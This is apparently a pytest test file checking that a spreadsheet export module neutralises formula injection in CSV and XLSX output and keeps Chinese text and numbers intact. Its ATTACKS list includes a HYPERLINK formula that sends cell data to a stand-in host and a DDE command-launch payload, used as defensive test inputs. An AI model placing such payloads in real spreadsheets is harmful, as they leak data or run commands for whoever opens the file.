"""Tables that are safe to open: nothing in them is worked out."""

import csv
import io

import openpyxl
import pytest

from intake.spreadsheets import Table, as_csv, as_xlsx, harmless

ATTACKS = (
    '=HYPERLINK("http://evil.example/?"&A1,"看这里")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1",
)


def rows_of(body):
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_begins_a_formula(attack):
    body = as_csv(Table("表", [attack], [[attack, "x"]]))
    for row in rows_of(body):
        assert row[0] == f"'{attack}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_in_a_workbook_is_typed_as_text(attack):
    body = as_xlsx([Table("表", [attack], [[attack]])])
    sheet = openpyxl.load_workbook(io.BytesIO(body)).active
    for (cell,) in sheet.iter_rows():
        assert cell.data_type == "s"
        assert cell.number_format == "@"
        # a workbook writes line ends as its format has them
        assert cell.value.replace("_x000D_", "\r").strip() == attack.strip()
    assert sheet["A2"].quotePrefix or attack.startswith(" ")


def test_chinese_rare_characters_and_numbers_arrive():
    table = Table("案件/表: 一", ["姓名", "数"], [["䶮𠮷㛃", -3], ['甲,"乙"', 1.5], [None, 0]])
    body = as_csv(table)
    assert body.startswith(b"\xef\xbb\xbf")
    assert rows_of(body) == [["姓名", "数"], ["䶮𠮷㛃", "-3"], ['甲,"乙"', "1.5"], ["", "0"]]
    book = openpyxl.load_workbook(io.BytesIO(as_xlsx([table, Table("二", ["空"], [])])))
    assert book.sheetnames == ["案件 表  一", "二"]
    values = [[cell.value for cell in row] for row in book.worksheets[0]]
    assert values == [["姓名", "数"], ["䶮𠮷㛃", -3], ['甲,"乙"', 1.5], [None, 0]]


def test_what_is_not_printed_breaks_no_file():
    table = Table("t", ["h"], [["a\x00b\x08c\ufffe\ud800d" + "长" * 40_000]])
    assert rows_of(as_csv(table))[1][0].startswith("abcd长")
    sheet = openpyxl.load_workbook(io.BytesIO(as_xlsx([table]))).active
    assert sheet["A2"].value.startswith("abcd长")


def test_plain_text_stays_as_it_is():
    for text in ("王小明", "2141005678", "2026-09-01", "", "a=b", "G411525"):
        assert harmless(text) == text
